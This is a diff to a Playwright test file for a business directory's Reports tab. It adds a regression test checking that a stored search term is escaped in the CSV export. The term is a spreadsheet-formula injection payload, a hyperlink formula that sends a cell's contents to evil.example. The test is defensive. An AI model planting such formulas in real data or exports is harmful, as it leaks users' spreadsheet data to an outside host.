@@ -6,7 +6,13 @@ import Papa from 'papaparse';
 import { websiteHref } from '../../src/features/business/business.ts';
 import type { Business } from '../../src/features/directory/directory.ts';
 import { chamberTimeZone } from '../../src/features/config/time-zone.ts';
-import { addMonths, chamberDay, monthLabel, monthOf } from '../../src/features/reports/reports.ts';
+import {
+	addMonths,
+	chamberDay,
+	monthLabel,
+	monthOf,
+	normaliseSearchWords,
+} from '../../src/features/reports/reports.ts';
 import { loadOrCreateKeys } from '../../scripts/stack/keys.ts';
 import { RANDOM_SEED_KEY } from '../../src/features/search/search.ts';
 import { DATA_DIR, openPanel, panelTab, STACK_URL, withDatabase } from './admin-support.ts';
@@ -22,6 +28,9 @@ const CHROME =
 	'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
 const GOOGLEBOT =
 	'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
+
+/** A search text a spreadsheet would run as a formula. */
+const FORMULA = '=hyperlink("http://evil.example/?"&a1,"open report")';
 
 const isStats = (request: Request) => new URL(request.url()).pathname === '/api/stats';
 
@@ -103,7 +112,7 @@ test.describe('counting', () => {
 
 		await card.getByRole('link', { name: business.name, exact: true }).click();
 		await expect(page.getByRole('heading', { level: 1 })).toHaveText(business.name);
-		const words = business.name.toLowerCase().replace(/\s+/g, ' ');
+		const words = normaliseSearchWords(business.name);
 		await expect
 			.poll(() => countedSince(business.id, before))
 			.toEqual({ shown: 1, view: 1, [`search ${words}`]: 1 });
@@ -257,10 +266,12 @@ test.describe('the Reports tab', () => {
 				(values ($2::date + 2, 'shown', '', 90000), ($2::date + 3, 'view', '', 70000),
 					($2::date + 4, 'website', '', 6000), ($2::date + 5, 'phone', '', 500),
 					($2::date + 6, 'search', 'harbour boats', 40), ($2::date + 7, 'search', 'boats', 9),
+					-- Text a spreadsheet would run, as a visitor's request could once store it.
+					($2::date + 8, 'search', $3, 3),
 					(($2::date - interval '2 months')::date, 'view', '', 12345)) as d(day, kind, words, count)
 				where p.id = $1
 				on conflict (tenant_id, business_id, day, kind, words) do update set count = excluded.count`,
-				[business.id, `${lastMonth}-01`],
+				[business.id, `${lastMonth}-01`, FORMULA],
 			),
 		);
 
@@ -328,7 +339,20 @@ test.describe('the Reports tab', () => {
 		);
 		await expect(actions.getByRole('row', { name: /^Phone/ }).getByRole('cell')).toHaveText('500');
 		const searches = panel.getByRole('table', { name: /^Top search words/ });
-		await expect(searches.getByRole('rowheader')).toHaveText(['harbour boats', 'boats']);
+		await expect(searches.getByRole('rowheader')).toHaveText(['harbour boats', 'boats', FORMULA]);
+		// Its CSV escapes the cell a spreadsheet would run as a formula.
+		const searchesCsv = page.waitForEvent('download');
+		await panel.getByRole('button', { name: 'Export search words as CSV' }).click();
+		expect(
+			Papa.parse<string[]>(await readFile(await (await searchesCsv).path(), 'utf8'), {
+				skipEmptyLines: true,
+			}).data,
+		).toEqual([
+			['Searched for', 'Views'],
+			['harbour boats', '40'],
+			['boats', '9'],
+			[`'${FORMULA}`, '3'],
+		]);
 
 		const monthsCsv = page.waitForEvent('download');
 		await panel.getByRole('button', { name: 'Export months as CSV' }).click();
